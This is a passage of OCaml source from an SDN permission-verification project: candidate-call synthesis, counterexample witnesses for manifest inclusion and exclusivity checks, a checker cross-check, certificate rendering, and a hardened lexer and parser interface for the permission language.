    | Filter.Action_f Filter.A_forward ->
      c.actsets <- add_uniq [ Action.Output 2 ] c.actsets
    | Filter.Action_f (Filter.A_modify f) ->
      let set =
        match set_field_for f with
        | Some sf -> [ Action.Set sf; Action.Output 2 ]
        | None -> [ Action.Output 2 ]
      in
      c.actsets <- add_uniq set c.actsets
    | Filter.Max_rule_count _ | Filter.Pkt_out _ | Filter.Owner _
    | Filter.Callback _ | Filter.Macro _ ->
      ()
  in
  List.iter (fun f -> Filter.fold_atoms (fun () s -> one s) () f) filters;
  (* Defaults keep every dimension inhabited even when no atom names
     it, so unconstrained sides still yield candidates. *)
  c.prios <- add_uniq 100 c.prios;
  c.dpids <- add_uniq 1 c.dpids;
  c.actsets <- add_uniq [ Action.Output 2 ] c.actsets;
  c.actsets <- add_uniq [] c.actsets;
  c.actsets <- add_uniq [ Action.To_controller ] c.actsets;
  c.levels <- add_uniq Stats.Flow_level c.levels;
  c.levels <- add_uniq Stats.Switch_level c.levels;
  c

(* Match-record assignments: the cartesian product of {absent, each
   candidate value} over the fields that have candidates.  Lazy
   ([Seq]), widest dimension last, capped by the search driver. *)
let match_seq (c : cands) : Match_fields.t Seq.t =
  let fields =
    List.fold_left
      (fun acc (f, _) -> if List.mem f acc then acc else acc @ [ f ])
      [] c.per_field
  in
  let fields = List.filteri (fun i _ -> i < 6) fields in
  let values f =
    List.filter_map
      (fun (f', v) -> if f' = f then Some v else None)
      c.per_field
  in
  let apply (m : Match_fields.t) f (v : cand_val) : Match_fields.t =
    match (f, v) with
    | Filter.F_ip_src, C_ipm im -> { m with Match_fields.nw_src = Some im }
    | Filter.F_ip_dst, C_ipm im -> { m with Match_fields.nw_dst = Some im }
    | Filter.F_tcp_src, C_int v -> { m with Match_fields.tp_src = Some v }
    | Filter.F_tcp_dst, C_int v -> { m with Match_fields.tp_dst = Some v }
    | Filter.F_eth_src, C_int v -> { m with Match_fields.dl_src = Some v }
    | Filter.F_eth_dst, C_int v -> { m with Match_fields.dl_dst = Some v }
    | Filter.F_in_port, C_int v -> { m with Match_fields.in_port = Some v }
    | Filter.F_eth_type, C_int v ->
      { m with Match_fields.dl_type = Some (Types.eth_type_of_code v) }
    | Filter.F_ip_proto, C_int v ->
      { m with Match_fields.nw_proto = Some (Types.ip_proto_of_code v) }
    | Filter.F_vlan, C_int v -> { m with Match_fields.dl_vlan = Some v }
    | _ -> m
  in
  let rec go fields (m : Match_fields.t) : Match_fields.t Seq.t =
    match fields with
    | [] -> Seq.return m
    | f :: rest ->
      Seq.concat_map
        (fun v_opt ->
          let m' = match v_opt with None -> m | Some v -> apply m f v in
          go rest m')
        (List.to_seq (None :: List.map Option.some (values f)))
  in
  go fields Match_fields.wildcard_all

let seq_prod (xs : 'a list) (f : 'a -> 'b Seq.t) : 'b Seq.t =
  Seq.concat_map f (List.to_seq xs)

let ip_cands (c : cands) field ~default : Types.ipv4 list =
  let vs =
    List.filter_map
      (function
        | f, C_ipm im when f = field -> Some im.Match_fields.addr
        | _ -> None)
      c.per_field
  in
  if vs = [] then [ default ] else vs

let int_cands (c : cands) field ~default : int list =
  let vs =
    List.filter_map
      (function f, C_int v when f = field -> Some v | _ -> None)
      c.per_field
  in
  if vs = [] then [ default ] else vs

let packets (c : cands) : Packet.t list =
  let dsts = ip_cands c Filter.F_ip_dst ~default:0x0A000001l in
  let srcs = ip_cands c Filter.F_ip_src ~default:0x0A000009l in
  let tp_dsts = int_cands c Filter.F_tcp_dst ~default:80 in
  let tcps =
    List.concat_map
      (fun nw_dst ->
        List.map
          (fun tp_dst ->
            Packet.tcp ~src:1 ~dst:2 ~nw_src:(List.hd srcs) ~nw_dst
              ~tp_src:1234 ~tp_dst ())
          (List.filteri (fun i _ -> i < 3) tp_dsts))
      (List.filteri (fun i _ -> i < 3) dsts)
  in
  Packet.arp ~src:1 ~dst:2 () :: tcps

(* All candidate calls for [token], as a lazy sequence. *)
let calls_for (c : cands) (token : Token.t) : Api.call Seq.t =
  let matches () = match_seq c in
  let install mk =
    seq_prod c.prios (fun p ->
        seq_prod c.dpids (fun d ->
            seq_prod c.actsets (fun al ->
                Seq.map (fun m -> mk p d al m) (matches ()))))
  in
  match token with
  | Token.Insert_flow ->
    install (fun p d al m ->
        Api.Install_flow (d, Flow_mod.add ~priority:p ~match_:m ~actions:al ()))
  | Token.Delete_flow ->
    seq_prod c.prios (fun p ->
        seq_prod c.dpids (fun d ->
            Seq.map
              (fun m ->
                Api.Install_flow (d, Flow_mod.delete ~priority:p ~match_:m ()))
              (matches ())))
  | Token.Read_flow_table ->
    seq_prod (None :: List.map Option.some c.dpids) (fun dpid ->
        Seq.cons
          (Api.Read_flow_table { dpid; pattern = None })
          (Seq.map
             (fun m -> Api.Read_flow_table { dpid; pattern = Some m })
             (matches ())))
  | Token.Visible_topology -> Seq.return Api.Read_topology
  | Token.Modify_topology ->
    seq_prod c.dpids (fun d -> Seq.return (Api.Modify_topology (Api.Add_switch d)))
  | Token.Read_statistics ->
    Seq.append
      (seq_prod c.levels (fun level ->
           seq_prod (None :: List.map Option.some c.dpids) (fun dpid ->
               Seq.cons
                 (Api.Read_stats (Stats.request ?dpid level))
                 (Seq.map
                    (fun m ->
                      Api.Read_stats (Stats.request ?dpid ~match_filter:m level))
                    (matches ())))))
      (Seq.return (Api.Receive_event Api.E_stats))
  | Token.Flow_event -> Seq.return (Api.Receive_event Api.E_flow)
  | Token.Topology_event -> Seq.return (Api.Receive_event Api.E_topology)
  | Token.Error_event -> Seq.return (Api.Receive_event Api.E_error)
  | Token.Pkt_in_event -> Seq.return (Api.Receive_event Api.E_packet_in)
  | Token.Read_payload -> Seq.return Api.Read_payload_access
  | Token.Send_pkt_out ->
    seq_prod c.dpids (fun dpid ->
        seq_prod [ true; false ] (fun from_pkt_in ->
            Seq.map
              (fun packet ->
                Api.Send_packet_out { dpid; port = 2; packet; from_pkt_in })
              (List.to_seq (packets c))))
  | Token.Host_network ->
    seq_prod (ip_cands c Filter.F_ip_dst ~default:0x0A000001l) (fun dst ->
        seq_prod (int_cands c Filter.F_tcp_dst ~default:80) (fun dst_port ->
            Seq.return (Api.Syscall (Api.Net_connect { dst; dst_port; payload = "" }))))
  | Token.File_system ->
    List.to_seq
      [ Api.Syscall (Api.File_open { path = "/etc/app.conf"; write = false });
        Api.Syscall (Api.File_open { path = "/etc/app.conf"; write = true }) ]
  | Token.Process_runtime -> Seq.return (Api.Syscall (Api.Spawn_process "helper"))

let max_candidates = 4096

(** First candidate call of [token]'s kind whose attributes satisfy
    [goal], with candidates harvested from [filters].  One budget tick
    per candidate; hard-capped. *)
let find_call ~(filters : Filter.expr list) (token : Token.t)
    ~(goal : Attrs.t -> bool) : (Api.call * Attrs.t) option =
  let cands = harvest filters in
  let seq = calls_for cands token in
  let rec scan n seq =
    if n >= max_candidates then None
    else
      match seq () with
      | Seq.Nil -> None
      | Seq.Cons (call, rest) ->
        Budget.step ();
        let attrs = Attrs.of_call call in
        if goal attrs then Some (call, attrs) else scan (n + 1) rest
  in
  scan 0 seq

(* Witness synthesis --------------------------------------------------------- *)

(** A call admitted by [ml] (token + filter) that [mr] does not admit.
    Proves semantic non-inclusion [ml ⊄ mr]. *)
let escape_witness (ml : Perm.manifest) (mr : Perm.manifest) : witness option =
  List.find_map
    (fun (p : Perm.t) ->
      let token = p.Perm.token in
      let fl = p.Perm.filter in
      let fr = Perm.filter_of mr token in
      let goal attrs = eval_f fl attrs && not (eval_f fr attrs) in
      match find_call ~filters:[ fl; fr ] token ~goal with
      | None -> None
      | Some (call, attrs) ->
        let _, why_in = Filter_eval.explain pure fl attrs in
        let _, why_out = Filter_eval.explain pure fr attrs in
        Some
          { token; call; admitted_by = ml; escapes = Some mr;
            explanation =
              Fmt.str "admitted by %a (%s) but not by the bound (%s)" Token.pp
                token why_in why_out })
    ml

(** A call admitted by both [m] and [mx]: semantic possession of the
    exclusive set [mx] by the app holding [m]. *)
let overlap_witness (m : Perm.manifest) (mx : Perm.manifest) : witness option =
  List.find_map
    (fun (p : Perm.t) ->
      let token = p.Perm.token in
      let fm = p.Perm.filter in
      let fx = Perm.filter_of mx token in
      if fx = Filter.False then None
      else
        let goal attrs = eval_f fm attrs && eval_f fx attrs in
        match find_call ~filters:[ fm; fx ] token ~goal with
        | None -> None
        | Some (call, attrs) ->
          let _, why_m = Filter_eval.explain pure fm attrs in
          let _, why_x = Filter_eval.explain pure fx attrs in
          Some
            { token; call; admitted_by = m; escapes = None;
              explanation =
                Fmt.str
                  "admitted by the app's %a grant (%s) and by the exclusive \
                   set (%s)"
                  Token.pp token why_m why_x })
    m

(* Obligation checking ------------------------------------------------------- *)

(** [check_le stmt app ml mr] — the obligation [ml <= mr].  Positive
    lattice answers certify (sound); otherwise only a semantically
    confirmed escape refutes; otherwise unknown (fail closed). *)
let check_le stmt app (ml : Perm.manifest) (mr : Perm.manifest) : status =
  if Inclusion.manifest_includes mr ml then Holds
  else
    match escape_witness ml mr with
    | Some w ->
      Refuted_by
        [ { stmt; app; witnesses = [ w ];
            detail =
              Fmt.str "%a: %a call escapes the bound" Policy.pp_stmt stmt
                Token.pp w.token } ]
    | None ->
      Unknown
        "inclusion not provable (Algorithm 1 is incomplete) and no \
         counterexample call found"

let combine_eq a b =
  match (a, b) with
  | Refuted_by c1, Refuted_by c2 -> Refuted_by (c1 @ c2)
  | (Refuted_by _ as r), _ | _, (Refuted_by _ as r) -> r
  | Holds, Holds -> Holds
  | Unknown r, _ | _, Unknown r -> Unknown r

(** Strict comparison: on top of a certified [ml <= mr], strictness
    needs a semantic witness in [mr \ ml] — the lattice's negative
    answer to [mr <= ml] is conservative and proves nothing. *)
let check_strict stmt app ml mr : status =
  match check_le stmt app ml mr with
  | Holds -> (
    match escape_witness mr ml with
    | Some _ -> Holds
    | None ->
      Unknown
        "inclusion holds but strictness is not witnessed (no call found in \
         the difference)")
  | s -> s

let check_cmp env stmt lhs op rhs : status =
  match
    (Reconcile.Env.manifest_of env lhs, Reconcile.Env.manifest_of env rhs)
  with
  | Error msg, _ | _, Error msg -> Unknown ("policy evaluation: " ^ msg)
  | Ok (ml, al), Ok (mr, ar) -> (
    match op with
    | Policy.C_le -> check_le stmt al ml mr
    | Policy.C_ge -> check_le stmt ar mr ml
    | Policy.C_eq -> combine_eq (check_le stmt al ml mr) (check_le stmt ar mr ml)
    | Policy.C_lt -> check_strict stmt al ml mr
    | Policy.C_gt -> check_strict stmt ar mr ml)

(* Three-valued assertion combination.  [T] and refutations are both
   semantically grounded and may flip under NOT; [U] is sticky. *)
type tv = T | F of counterexample list | U of string

let tv_of_status = function
  | Holds -> T
  | Refuted_by c -> F c
  | Unknown r -> U r

let rec eval3 env stmt (ae : Policy.assert_expr) : tv =
  Budget.step ();
  match ae with
  | Policy.A_cmp (l, op, r) -> tv_of_status (check_cmp env stmt l op r)
  | Policy.A_and (a, b) -> (
    match eval3 env stmt a with
    | F c -> F c
    | ra -> (
      match eval3 env stmt b with
      | F c -> F c
      | rb -> (
        match (ra, rb) with
        | U r, _ | _, U r -> U r
        | _ -> T)))
  | Policy.A_or (a, b) -> (
    match eval3 env stmt a with
    | T -> T
    | ra -> (
      match eval3 env stmt b with
      | T -> T
      | rb -> (
        match (ra, rb) with
        | F c1, F c2 -> F (c1 @ c2) (* both disjuncts refuted *)
        | U r, _ | _, U r -> U r
        | T, _ | _, T -> T (* unreachable: T short-circuits above *))))
  | Policy.A_not a -> (
    match eval3 env stmt a with
    | F _ -> T (* operand semantically refuted ⇒ negation holds *)
    | T ->
      (* The negated operand certifiably holds, so this assertion is
         false — but a negated obligation has no single-call
         counterexample, and Refuted promises one.  Fail closed. *)
      U
        "NOT: the negated comparison certifiably holds (assertion is \
         unsatisfiable); no call-level counterexample exists"
    | U r -> U ("NOT: " ^ r))

let check_exclusive env stmt p1 p2 : status =
  match (Reconcile.Env.manifest_of env p1, Reconcile.Env.manifest_of env p2) with
  | Error msg, _ | _, Error msg -> Unknown ("policy evaluation: " ^ msg)
  | Ok (m1, _), Ok (m2, _) ->
    let refuted, unknowns =
      List.fold_left
        (fun (refuted, unknowns) (name, m) ->
          (* [manifests_overlap] = false is a sound emptiness proof, so
             either non-overlap certifies this app. *)
          if
            (not (Inclusion.manifests_overlap m m1))
            || not (Inclusion.manifests_overlap m m2)
          then (refuted, unknowns)
          else
            match (overlap_witness m m1, overlap_witness m m2) with
            | Some w1, Some w2 ->
              ( { stmt; app = Some name; witnesses = [ w1; w2 ];
                  detail =
                    Fmt.str
                      "app %s holds behaviours from both exclusive sets (%a, \
                       %a)"
                      name Token.pp w1.token Token.pp w2.token }
                :: refuted,
                unknowns )
            | _ ->
              ( refuted,
                Fmt.str
                  "app %s: overlap with both exclusive sets is neither \
                   provably empty nor witnessed"
                  name
                :: unknowns ))
        ([], []) (Reconcile.Env.apps env)
    in
    if refuted <> [] then Refuted_by (List.rev refuted)
    else if unknowns <> [] then Unknown (String.concat "; " (List.rev unknowns))
    else Holds

(* Checker cross-check ------------------------------------------------------- *)

let decision_allows = function Api.Allow -> true | Api.Deny _ -> false

(** What [Filter_eval] says a manifest decides for a call — the
    semantic ground truth the three checkers are compared against. *)
let expected_decision (m : Perm.manifest) (call : Api.call) : bool =
  match Dispatch.token_of_call call with
  | None -> true
  | Some t ->
    Perm.grants_token m t && eval_f (Perm.filter_of m t) (Attrs.of_call call)

type trio = {
  engine : Engine.t option;
  compiled : Compiled.t option;
  automaton : Automaton.t option;
}

let build_trio notes (m : Perm.manifest) : trio =
  let engine =
    match
      Engine.create ~record_state:false ~ownership:(Ownership.create ())
        ~app_name:"verify" ~cookie:1 m
    with
    | e -> Some e
    | exception Invalid_argument msg ->
      notes := Fmt.str "engine replay skipped: %s" msg :: !notes;
      None
  in
  let compiled =
    match Compiled.of_manifest m with
    | c -> Some c
    | exception _ -> None
  in
  let automaton =
    match Automaton.of_manifest m with
    | a -> Some a
    | exception _ -> None
  in
  { engine; compiled; automaton }

let run_crosscheck ~(apps : (string * Perm.manifest) list)
    ~(obligations : obligation list) : crosscheck =
  let notes = ref [] in
  let agree = ref true in
  let replayed = ref 0 in
  let replay (m : Perm.manifest) (call : Api.call) =
    let want = expected_decision m call in
    let trio = build_trio notes m in
    let one label decide =
      incr replayed;
      let got = decision_allows (decide call) in
      if got <> want then begin
        agree := false;
        notes :=
          Fmt.str "%s disagrees with Filter_eval on %a (got %s, expected %s)"
            label Api.pp_call call
            (if got then "allow" else "deny")
            (if want then "allow" else "deny")
          :: !notes
      end
    in
    Option.iter (fun e -> one "engine" (Engine.check e)) trio.engine;
    Option.iter (fun c -> one "compiled" (Compiled.check c)) trio.compiled;
    Option.iter (fun a -> one "automaton" (Automaton.check a)) trio.automaton
  in
  (* Every synthesized witness is replayed against the manifest that
     admits it and (for boundary escapes) against the bound it escapes
     — a differential test of all three checkers on exactly the calls
     verification's verdict rests on. *)
  let witnesses =
    List.concat_map
      (fun o ->
        match o.status with
        | Refuted_by cs -> List.concat_map (fun c -> c.witnesses) cs
        | _ -> [])
      obligations
  in
  List.iter
    (fun w ->
      replay w.admitted_by w.call;
      Option.iter (fun bound -> replay bound w.call) w.escapes)
    witnesses;
  (* Least-privilege cross-check: sample calls each app's manifest
     admits, infer a manifest from that trace, and hold Infer to its
     guarantee — the inferred manifest re-admits every recorded call. *)
  let infer_ok = ref true in
  let traced = ref 0 in
  List.iter
    (fun (name, m) ->
      let sample =
        List.filter_map
          (fun (p : Perm.t) ->
            let fl = p.Perm.filter in
            find_call ~filters:[ fl ] p.Perm.token ~goal:(eval_f fl)
            |> Option.map fst)
          m
      in
      let from_witnesses =
        List.filter_map
          (fun (w : witness) ->
            if expected_decision m w.call then Some w.call else None)
          witnesses
      in
      let trace = sample @ from_witnesses in
      if trace <> [] then begin
        traced := !traced + List.length trace;
        let inferred = Infer.of_trace trace in
        List.iter
          (fun call ->
            if not (expected_decision inferred call) then begin
              infer_ok := false;
              notes :=
                Fmt.str
                  "inferred least-privilege manifest for app %s fails to \
                   re-admit %a"
                  name Api.pp_call call
                :: !notes
            end)
          trace
      end)
    apps;
  { replayed = !replayed;
    checkers_agree = !agree;
    infer_consistent = !infer_ok;
    infer_traced = !traced;
    crosscheck_notes = List.rev !notes }

(* Verdict counters ---------------------------------------------------------- *)

type stats = { certified_n : int; refuted_n : int; unverified_n : int }

let counters_mutex = Mutex.create ()
let certified_c = ref 0
let refuted_c = ref 0
let unverified_c = ref 0
let gauge_of_counter c () = { M.depth = !c; hwm = !c }

let () =
  M.register_gauge "verify-certified" (gauge_of_counter certified_c);
  M.register_gauge "verify-refuted" (gauge_of_counter refuted_c);
  M.register_gauge "verify-unverified" (gauge_of_counter unverified_c)

let count_verdict v =
  Mutex.lock counters_mutex;
  (match v with
  | Certified -> incr certified_c
  | Refuted _ -> incr refuted_c
  | Unverified _ -> incr unverified_c);
  Mutex.unlock counters_mutex

let stats () =
  Mutex.lock counters_mutex;
  let s =
    { certified_n = !certified_c;
      refuted_n = !refuted_c;
      unverified_n = !unverified_c }
  in
  Mutex.unlock counters_mutex;
  s

let reset_stats () =
  Mutex.lock counters_mutex;
  certified_c := 0;
  refuted_c := 0;
  unverified_c := 0;
  Mutex.unlock counters_mutex

(* Driver -------------------------------------------------------------------- *)

let empty_crosscheck note =
  { replayed = 0;
    checkers_agree = false;
    infer_consistent = false;
    infer_traced = 0;
    crosscheck_notes = [ note ] }

let verify ?limits ~(apps : (string * Perm.manifest) list) (policy : Policy.t) :
    certificate =
  let b = Budget.create ?limits () in
  let cert =
    match
      Budget.with_scope b (fun () ->
          Budget.set_stage "verify";
          let env = Reconcile.Env.create ~apps policy in
          let obligations =
            List.mapi (fun i stmt -> (i, stmt)) policy
            |> List.filter_map (fun (index, stmt) ->
                   let guarded check =
                     match check () with
                     | s -> s
                     | exception Budget.Exhausted { reason; _ } ->
                       Unknown ("budget exhausted: " ^ reason)
                     | exception Nf.Too_large ->
                       Unknown "normal form too large; check degraded"
                     | exception Stack_overflow ->
                       Unknown "stack overflow during obligation check"
                     | exception exn ->
                       Unknown ("internal error: " ^ Printexc.to_string exn)
                   in
                   match stmt with
                   | Policy.Let _ -> None
                   | Policy.Assert ae ->
                     let status =
                       guarded (fun () ->
                           match eval3 env stmt ae with
                           | T -> Holds
                           | F c -> Refuted_by c
                           | U r -> Unknown r)
                     in
                     Some { index; stmt; status }
                   | Policy.Assert_exclusive (p1, p2) ->
                     let status =
                       guarded (fun () -> check_exclusive env stmt p1 p2)
                     in
                     Some { index; stmt; status })
          in
          Budget.set_stage "crosscheck";
          let crosscheck =
            match run_crosscheck ~apps ~obligations with
            | cc -> cc
            | exception Budget.Exhausted { reason; _ } ->
              empty_crosscheck ("budget exhausted during cross-check: " ^ reason)
            | exception exn ->
              empty_crosscheck
                ("internal error during cross-check: " ^ Printexc.to_string exn)
          in
          let refuted =
            List.concat_map
              (fun o ->
                match o.status with Refuted_by cs -> cs | _ -> [])
              obligations
          in
          let unknowns =
            List.filter_map
              (fun o ->
                match o.status with
                | Unknown r -> Some (Fmt.str "obligation %d: %s" o.index r)
                | _ -> None)
              obligations
          in
          let verdict =
            if refuted <> [] then Refuted refuted
            else
              match unknowns with
              | r :: _ -> Unverified r
              | [] ->
                if not crosscheck.checkers_agree then
                  Unverified "checker cross-check failed (see notes)"
                else if not crosscheck.infer_consistent then
                  Unverified "least-privilege inference cross-check failed"
                else Certified
          in
          { verdict;
            obligations;
            crosscheck;
            spent = Budget.spent b;
            notes = Budget.notes b })
    with
    | cert -> cert
    | exception Budget.Exhausted { reason; _ } ->
      { verdict = Unverified ("budget exhausted: " ^ reason);
        obligations = [];
        crosscheck = empty_crosscheck "verification aborted";
        spent = Budget.spent b;
        notes = Budget.notes b }
    | exception exn ->
      { verdict = Unverified ("internal error: " ^ Printexc.to_string exn);
        obligations = [];
        crosscheck = empty_crosscheck "verification aborted";
        spent = Budget.spent b;
        notes = Budget.notes b }
  in
  count_verdict cert.verdict;
  cert

let verify_report ?limits (policy : Policy.t) (report : Reconcile.report) :
    certificate =
  let cert = verify ?limits ~apps:report.Reconcile.manifests policy in
  match report.Reconcile.unresolved_macros with
  | [] -> cert
  | ms ->
    let note =
      Fmt.str "unresolved stub macro(s) in %s: their atoms deny-close under \
               evaluation"
        (String.concat ", " (List.map fst ms))
    in
    { cert with notes = cert.notes @ [ note ] }

let certified cert = cert.verdict = Certified

let verdict_label cert =
  match cert.verdict with
  | Certified -> "certified"
  | Refuted _ -> "refuted"
  | Unverified _ -> "unverified"

(* Rendering ----------------------------------------------------------------- *)

let pp_witness ppf (w : witness) =
  Fmt.pf ppf "@[<v2>%a:@,%s@]" Api.pp_call w.call w.explanation

let pp_counterexample ppf (c : counterexample) =
  Fmt.pf ppf "@[<v2>%s%s:@,%a@]" c.detail
    (match c.app with Some a -> Fmt.str " [app %s]" a | None -> "")
    Fmt.(list pp_witness)
    c.witnesses

let status_label = function
  | Holds -> "holds"
  | Refuted_by _ -> "refuted"
  | Unknown _ -> "unknown"

let pp_obligation ppf (o : obligation) =
  Fmt.pf ppf "@[<v2>#%d [%s] %a%a@]" o.index (status_label o.status)
    Policy.pp_stmt o.stmt
    (fun ppf -> function
      | Holds -> ()
      | Unknown r -> Fmt.pf ppf "@,%s" r
      | Refuted_by cs -> Fmt.pf ppf "@,%a" Fmt.(list pp_counterexample) cs)
    o.status

let pp_certificate ppf (cert : certificate) =
  Fmt.pf ppf "@[<v>verdict: %s%a@,%a@,cross-check: %d replay(s), checkers %s, \
              inference %s (%d call(s))%a%a@]"
    (verdict_label cert)
    (fun ppf -> function
      | Unverified r -> Fmt.pf ppf " (%s)" r
      | _ -> ())
    cert.verdict
    Fmt.(list pp_obligation)
    cert.obligations cert.crosscheck.replayed
    (if cert.crosscheck.checkers_agree then "agree" else "DISAGREE")
    (if cert.crosscheck.infer_consistent then "consistent" else "INCONSISTENT")
    cert.crosscheck.infer_traced
    (fun ppf -> function
      | [] -> ()
      | notes -> Fmt.pf ppf "@,%a" Fmt.(list (fmt "note: %s")) notes)
    (cert.crosscheck.crosscheck_notes @ cert.notes)
    (fun ppf (s : Budget.spent) -> Fmt.pf ppf "@,budget: %a" Budget.pp_spent s)
    cert.spent

let json_of_witness (w : witness) : J.t =
  J.Obj
    [ ("token", J.Str (Token.to_string w.token));
      ("call", J.Str (Fmt.str "%a" Api.pp_call w.call));
      ("explanation", J.Str w.explanation) ]

let json_of_counterexample (c : counterexample) : J.t =
  J.Obj
    [ ("stmt", J.Str (Fmt.str "%a" Policy.pp_stmt c.stmt));
      ("app", match c.app with Some a -> J.Str a | None -> J.Null);
      ("detail", J.Str c.detail);
      ("witnesses", J.Arr (List.map json_of_witness c.witnesses)) ]

let json_of_obligation (o : obligation) : J.t =
  J.Obj
    (( "index", J.Num (float_of_int o.index) )
    :: ("stmt", J.Str (Fmt.str "%a" Policy.pp_stmt o.stmt))
    :: ("status", J.Str (status_label o.status))
    ::
    (match o.status with
    | Holds -> []
    | Unknown r -> [ ("reason", J.Str r) ]
    | Refuted_by cs ->
      [ ("counterexamples", J.Arr (List.map json_of_counterexample cs)) ]))

let json_of_certificate (cert : certificate) : J.t =
  J.Obj
    [ ("verdict", J.Str (verdict_label cert));
      ( "reason",
        match cert.verdict with
        | Unverified r -> J.Str r
        | _ -> J.Null );
      ("obligations", J.Arr (List.map json_of_obligation cert.obligations));
      ( "counterexamples",
        match cert.verdict with
        | Refuted cs -> J.Arr (List.map json_of_counterexample cs)
        | _ -> J.Arr [] );
      ( "crosscheck",
        J.Obj
          [ ("replayed", J.Num (float_of_int cert.crosscheck.replayed));
            ("checkers_agree", J.Bool cert.crosscheck.checkers_agree);
            ("infer_consistent", J.Bool cert.crosscheck.infer_consistent);
            ("infer_traced", J.Num (float_of_int cert.crosscheck.infer_traced));
            ( "notes",
              J.Arr
                (List.map (fun n -> J.Str n) cert.crosscheck.crosscheck_notes)
            ) ] );
      ( "spent",
        J.Obj
          [ ("steps", J.Num (float_of_int cert.spent.Budget.steps));
            ("clauses", J.Num (float_of_int cert.spent.Budget.clauses));
            ("nodes", J.Num (float_of_int cert.spent.Budget.nodes));
            ("elapsed", J.Num cert.spent.Budget.elapsed) ] );
      ("notes", J.Arr (List.map (fun n -> J.Str n) cert.notes)) ]
