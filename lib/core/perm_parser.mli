(** Recursive-descent parser for the SDNShield permission language
    (paper Appendix A).  Identifiers that are not keywords parse as
    macro stubs, so manifests like
    [PERM network_access LIMITING AdminRange] round-trip.

    Hardened for untrusted sources (docs/VETTING.md): grammar nesting
    is capped at {!max_nesting} (depth bombs raise [Parse_error]
    instead of overflowing the stack), errors carry their source line,
    and productions tick the ambient {!Budget} when one is
    installed. *)

val keywords : string list
val is_keyword : string -> bool

val max_nesting : int
(** Hard cap on grammar nesting depth (NOT chains, parentheses). *)

val manifest_of_string : string -> (Perm.manifest, string) result
(** Parse a full manifest (a sequence of [PERM] statements). *)

val filter_of_string : string -> (Filter.expr, string) result
(** Parse a bare filter expression (filter macros, tests). *)

val manifest_exn : string -> Perm.manifest
(** @raise Invalid_argument on parse errors. *)

(** {1 Stream-level entry points} — used by {!Policy_parser} to embed
    permission syntax inside policy files. *)

val parse_perm : Lexer.stream -> Perm.t
val parse_perm_list : Lexer.stream -> Perm.t list

val parse_filter_expr : ?depth:int -> Lexer.stream -> Filter.expr
(** [depth] is the surrounding nesting level (counts toward
    {!max_nesting}); callers embedding filter syntax pass their own. *)
