(* Hand-written lexer shared by the permission language (Appendix A)
   and the security-policy language (Appendix B).

   Conventions from the paper's listings: backslash-newline continues a
   statement (treated as whitespace here since statements are delimited
   by keywords, not newlines), [#] starts a comment, dotted quads lex
   as IP addresses, and double-quoted strings are app names.

   Sources come from an untrusted app market, so the lexer is part of
   the admission surface (docs/VETTING.md): every token ticks the
   ambient {!Budget} so garbage floods are cut off, and each token
   carries its source line so parser errors point at the offending
   statement instead of just naming a token. *)

type token =
  | IDENT of string
  | INT of int
  | IP of int32
  | STRING of string
  | LBRACE
  | RBRACE
  | LPAREN
  | RPAREN
  | COMMA
  | LE
  | GE
  | LT
  | GT
  | EQ
  | EOF

exception Lex_error of string

let pp_token ppf = function
  | IDENT s -> Fmt.pf ppf "%s" s
  | INT i -> Fmt.pf ppf "%d" i
  | IP ip -> Fmt.string ppf (Shield_openflow.Types.ipv4_to_string ip)
  | STRING s -> Fmt.pf ppf "%S" s
  | LBRACE -> Fmt.string ppf "{"
  | RBRACE -> Fmt.string ppf "}"
  | LPAREN -> Fmt.string ppf "("
  | RPAREN -> Fmt.string ppf ")"
  | COMMA -> Fmt.string ppf ","
  | LE -> Fmt.string ppf "<="
  | GE -> Fmt.string ppf ">="
  | LT -> Fmt.string ppf "<"
  | GT -> Fmt.string ppf ">"
  | EQ -> Fmt.string ppf "="
  | EOF -> Fmt.string ppf "<eof>"

let is_ident_char c =
  (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9')
  || c = '_'

let is_digit c = c >= '0' && c <= '9'

(** Tokenize [src], pairing each token with its 1-based source line.
    Numbers made only of digits and dots with exactly three dots become
    [IP]; bare digit runs become [INT]. *)
let tokenize_positioned src : (token * int) list =
  let n = String.length src in
  let line = ref 1 in
  let fail msg = raise (Lex_error (Printf.sprintf "line %d: %s" !line msg)) in
  let emit tok acc =
    Budget.step ();
    (tok, !line) :: acc
  in
  let rec go i acc =
    if i >= n then List.rev (emit EOF acc)
    else
      match src.[i] with
      | '\n' ->
        incr line;
        go (i + 1) acc
      | ' ' | '\t' | '\r' | '\\' -> go (i + 1) acc
      | '#' ->
        let rec skip j = if j < n && src.[j] <> '\n' then skip (j + 1) else j in
        go (skip i) acc
      | '{' -> go (i + 1) (emit LBRACE acc)
      | '}' -> go (i + 1) (emit RBRACE acc)
      | '(' -> go (i + 1) (emit LPAREN acc)
      | ')' -> go (i + 1) (emit RPAREN acc)
      | ',' -> go (i + 1) (emit COMMA acc)
      | '=' -> go (i + 1) (emit EQ acc)
      | '<' ->
        if i + 1 < n && src.[i + 1] = '=' then go (i + 2) (emit LE acc)
        else go (i + 1) (emit LT acc)
      | '>' ->
        if i + 1 < n && src.[i + 1] = '=' then go (i + 2) (emit GE acc)
        else go (i + 1) (emit GT acc)
      | '"' ->
        let rec scan j =
          if j >= n then fail "unterminated string"
          else if src.[j] = '"' then j
          else scan (j + 1)
        in
        let close = scan (i + 1) in
        go (close + 1) (emit (STRING (String.sub src (i + 1) (close - i - 1))) acc)
      | c when is_digit c ->
        let rec scan j dots =
          if j < n && (is_digit src.[j] || src.[j] = '.') then
            scan (j + 1) (if src.[j] = '.' then dots + 1 else dots)
          else (j, dots)
        in
        let stop, dots = scan i 0 in
        let text = String.sub src i (stop - i) in
        if dots = 0 then
          match int_of_string_opt text with
          | Some v -> go stop (emit (INT v) acc)
          | None -> fail ("integer literal out of range " ^ text)
        else if dots = 3 then
          let ip =
            try Shield_openflow.Types.ipv4_of_string text
            with Invalid_argument _ -> fail ("bad IP literal " ^ text)
          in
          go stop (emit (IP ip) acc)
        else fail ("bad numeric literal " ^ text)
      | c when is_ident_char c ->
        let rec scan j = if j < n && is_ident_char src.[j] then scan (j + 1) else j in
        let stop = scan i in
        go stop (emit (IDENT (String.sub src i (stop - i))) acc)
      | c -> fail (Printf.sprintf "unexpected character %C" c)
  in
  go 0 []

let tokenize src = List.map fst (tokenize_positioned src)

(* Token-stream cursor used by the recursive-descent parsers. *)
type stream = { mutable toks : (token * int) list }

exception Parse_error of string

let of_string src = { toks = tokenize_positioned src }

let peek s = match s.toks with [] -> EOF | (t, _) :: _ -> t

let peek2 s = match s.toks with _ :: (t, _) :: _ -> t | _ -> EOF

(** Source line of the next token (the EOF token carries the last
